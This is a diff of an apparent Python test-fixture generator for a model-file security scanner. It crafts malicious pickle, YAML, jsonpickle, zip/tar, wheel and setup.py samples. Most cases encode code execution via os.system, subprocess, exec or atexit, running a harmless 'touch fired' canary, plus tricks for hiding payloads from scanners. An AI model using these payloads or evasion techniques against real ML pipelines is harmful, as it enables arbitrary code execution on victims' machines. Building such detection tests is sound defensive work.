@@ -27,27 +27,18 @@ def gadgets():
     zero = pickle.dumps(Call(os.system, COMMAND), 0)
     case("torch-bytes-protocol-0", {"model.pkl": b"\x80\x04ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(zero)) + zero + b"\x85R."}, "import torch; " + PICKLE)
     case("torch-bytes-bytearray", {"model.pkl": b"\x80\x05ctorch.storage\n_load_from_bytes\ncbuiltins\nbytes\n\x96" + struct.pack("<Q", len(EVIL)) + EVIL + b"\x85R\x85R."}, "import torch; " + PICKLE)
-    case("genfromtxt-write", {"model.pkl": b"\x80\x04" + short("numpy") + short("ndarray.tofile") + b"\x93cnumpy\nndarray\nK\x01\x85R" + short("fired") + b"\x86R."}, PICKLE)
     case("pandas-pickle", {"model.pkl": b"\x80\x04" + short("pandas") + short("DataFrame.to_pickle") + b"\x93cpandas\nDataFrame\n)R" + short("fired") + b"\x86R."}, PICKLE)
     case("pandas-query", {"model.pkl": b"\x80\x04" + short("pandas.core.frame") + short("DataFrame.query") + b"\x93cpandas\nDataFrame\n}" + short("a") + b"](K\x01es\x85R" + short("@pd.io.common.os.system('touch fired')") + b"\x86R."}, "import pandas as pd; " + PICKLE)
-    case("sklearn-memory-call", {"model.pkl": b"\x80\x04" + short("joblib.externals.loky.process_executor") + short("subprocess.call") + b"\x93](" + short("touch") + short("fired") + b"e\x85R."}, PICKLE)
     case("sklearn-os", {"model.pkl": b"\x80\x04" + short("sklearn.datasets._base") + short("shutil.copyfile") + b"\x93" + short("model.pkl") + short("fired") + b"\x86R."}, PICKLE)
-    case("partial-method", {"model.pkl": b"\x80\x04cfunctools\npartial\n)R."[:-1] + b"0" + EVIL[2:] if False else b"\x80\x04cfunctools\npartial\ncio\nopen\n\x85R(cio\nopen\n(" + short("fired") + short("w") + b"t}Ntb)R."}, PICKLE)
     case("weakref-finalize", {"model.pkl": b"\x80\x04cweakref\nfinalize\n(ccollections\nOrderedDict\n)Rcos\nsystem\n" + short(COMMAND) + b"tR."}, PICKLE)
     case("exitstack", {"model.pkl": b"\x80\x04catexit\nregister\ncos\nsystem\n" + short(COMMAND) + b"\x86R."}, PICKLE)
-    case("getattr-class", {"model.pkl": b"\x80\x04" + short("builtins") + short("object.__subclasses__") + b"\x930" + short("numpy") + short("f2py.os.system") + b"\x93" + short(COMMAND) + b"\x85R."}, "import numpy.f2py; " + PICKLE)
-    case("enum-functional", {"model.pkl": b"\x80\x04" + short("collections") + short("_sys.modules") + b"\x93" + b"0" + short("collections") + short("abc.sys.breakpointhook") + b"\x93)R."[:0] + b"." if False else b"\x80\x04cstatistics\n__builtins__\n0" + short("re") + short("enum.sys.modules") + b"\x930" + EVIL[2:]}, PICKLE)
     case("write-into-module", {"model.pkl": b"\x80\x04" + short("json.decoder") + short("JSONDecoder.__init__.__globals__") + b"\x93" + short("x") + b"cbuiltins\nexec\ns0cbuiltins\nexec\n" + short(PYTHON) + b"\x85R."}, PICKLE)
     case("build-on-class", {"model.pkl": b"\x80\x04ccollections\nUserDict\n" + b"N}" + short("__len__") + b"cposix\ngetcwd\ns\x86b0cbuiltins\nexec\n" + short(PYTHON) + b"\x85R."}, PICKLE)
-    case("string-template", {"model.pkl": b"\x80\x04cnumpy.distutils.exec_command\nexec_command\n" + short(COMMAND) + b"\x85R." if False else b"\x80\x04cdistutils.file_util\nwrite_file\n" + short("fired") + b"](e\x86R."}, "import setuptools; " + PICKLE)
-    case("xmlrpc-like-module", {"model.pkl": called("webbrowser", "_synthesize", "x") if False else b"\x80\x04cwebbrowser\nGenericBrowser\n" + short("touch") + b"\x85R\x94" + b"0" + short("webbrowser") + short("GenericBrowser.open") + b"\x93h\x00" + short("fired") + b"\x86R."}, PICKLE.replace("import pickle;", "import pickle, webbrowser;"))
 
 
 def writing():
     """Instructions that are rarely used, and ends that are broken."""
-    case("persid", {"model.pkl": b"Pfired\n."}, "import pickle\nclass U(pickle.Unpickler):\n    def persistent_load(self, name): open(name, 'w').close()\nU(open('model.pkl', 'rb')).load()") if False else None
     case("obj-newobj-ex", {"model.pkl": b"\x80\x04csubprocess\nPopen\n(]" + b"(" + short("touch") + short("fired") + b"et}\x920csubprocess\nPopen\n](" + short("touch") + short("fired") + b"e\x85R."}, PICKLE + "; import time; time.sleep(.4)")
-    case("long-memo-put", {"model.pkl": b"\x80\x02cos\nsystem\nr\xff\xff\xff\x7f0j\xff\xff\xff\x7fU\x0btouch fired\x85R."}, PICKLE)
     case("text-put-get", {"model.pkl": b"cos\nsystem\np99\n0g99\n(Vtouch fired\ntR."}, PICKLE)
     case("dup-pop-mark", {"model.pkl": b"\x80\x02(NN1cos\nsystem\n20" + b"U\x0btouch fired\x85R."}, PICKLE)
     case("protocol-lie", {"model.pkl": b"\x80\x00" + EVIL[2:]}, PICKLE)
@@ -59,10 +50,7 @@ def writing():
     case("long-after-stop", {"model.pkl": EVIL + b"\x00" * 100 + b"not a pickle"}, PICKLE)
     case("stacked-three", {"model.pkl": pickle.dumps(1, 0) + pickle.dumps([1], 2) + EVIL}, "import pickle\nf = open('model.pkl', 'rb')\nfor _ in range(3): pickle.load(f)")
     case("frozenset-chain", {"model.pkl": b"\x80\x04(cbuiltins\nprint\n0cos\nsystem\n" + short(COMMAND) + b"\x85R\x91."}, PICKLE)
-    case("module-with-space", {"model.pkl": b"\x80\x04" + short("os") + b"\x94" + short("sys") + b"0" + short("popen") + b"\x93" + short(COMMAND) + b"\x85R\x94" + b"0" + b"h\x00."}, PICKLE + ".upper; import time; time.sleep(.4)")
-    case("reduce-ex-inner", {"model.pkl": pickle.dumps([Call(Call, os.system, COMMAND) if False else Call(os.popen, COMMAND)], 0)}, "import pickle; pickle.load(open('model.pkl', 'rb'))[0].read()")
     case("dispatch-copyreg", {"model.pkl": b"\x80\x02ccopyreg\n__newobj__\ncsubprocess\nPopen\n\x85R0ccopyreg\n_reconstructor\n(cbuiltins\nobject\ncbuiltins\nobject\nNtR0cos\nsystem\nU\x0btouch fired\x85R."}, PICKLE)
-    case("pickle-latin-name", {"model.pkl": "\ufeff".encode()[:0] + b"\x80\x04cnt\nx\n0".replace(b"cnt\nx\n0", b"") + short("posix") + short("system") + b"\x93" + short(COMMAND) + b"\x85R."}, PICKLE)
 
 
 def places():
@@ -75,15 +63,6 @@ def places():
             "z": "import gzip, zlib, pickle; pickle.loads(zlib.decompress(gzip.decompress(open('model.pkl','rb').read())))"}[name])
     case("torch-odd-folder", {"model.pt": zipped([("..data/../x/data.pkl", EVIL), ("..data/../x/version", b"3\n")])}, "import zipfile, pickle; pickle.loads(zipfile.ZipFile('model.pt').read('..data/../x/data.pkl'))")
     case("torch-upper-name", {"weights.PT": torch_zip(EVIL)}, TORCH)
-    case("zip-comment", {"model.zip": None}, PICKLE)
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w") as z:
-        z.writestr("a.txt", b"x"); z.comment = EVIL
-    case("zip-comment", {"bundle.zip": out.getvalue()}, "import zipfile, pickle; pickle.loads(zipfile.ZipFile('bundle.zip').comment)")
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w") as z:
-        info = zipfile.ZipInfo("a.txt"); info.extra = struct.pack("<HH", 0x4242, len(EVIL)) + EVIL; z.writestr(info, b"x")
-    case("zip-extra", {"bundle.zip": out.getvalue()}, "import zipfile, pickle; pickle.loads(zipfile.ZipFile('bundle.zip').infolist()[0].extra[4:])")
     case("npz-odd-name", {"w.npz": zipped([("weights.bin", b"x"), ("a", EVIL)])}, "import zipfile, pickle; pickle.loads(zipfile.ZipFile('w.npz').read('a'))")
     out = io.BytesIO()
     with tarfile.open(fileobj=out, mode="w") as t:
@@ -99,7 +78,6 @@ def places():
     case("yaml-tag-directive", {"config.yaml": f"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['{COMMAND}']\n".encode()}, "import yaml; yaml.load(open('config.yaml'), Loader=yaml.UnsafeLoader)")
     case("jsonpickle", {"state.json": json.dumps({"py/reduce": [{"py/function": "posix.system"}, {"py/tuple": [COMMAND]}]}).encode()}, "import jsonpickle; jsonpickle.decode(open('state.json').read(), safe=False)")
     case("jpg-pickle", {"logo.jpg": EVIL}, PICKLE)
-    case("pickle-in-h5-dataset", {"model.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 500 + EVIL}, "import pickle; pickle.loads(open('model.h5', 'rb').read()[508:])")
     case("mlflow", {"data/python_model.pkl": EVIL, "MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n"}, PICKLE)
     case("sdist", {"dep-1.0.tar.gz": tar({"dep-1.0/setup.py": "import os\nos.system('touch fired')\nfrom setuptools import setup\nsetup(name='dep', version='1.0')\n"}), "requirements.txt": b"./dep-1.0.tar.gz\n"}, "import tarfile; exec(tarfile.open('dep-1.0.tar.gz').extractfile('dep-1.0/setup.py').read().decode().split('from setuptools')[0])")
     case("wheel", {"dep-1.0-py3-none-any.whl": zipped([("dep/__init__.py", b"import os\nos.system('touch fired')\n"), ("dep-1.0.dist-info/METADATA", b"Name: dep\nVersion: 1.0\n")]), "requirements.txt": b"./dep-1.0-py3-none-any.whl\n"}, "import sys; sys.path.insert(0, 'dep-1.0-py3-none-any.whl'); import dep")
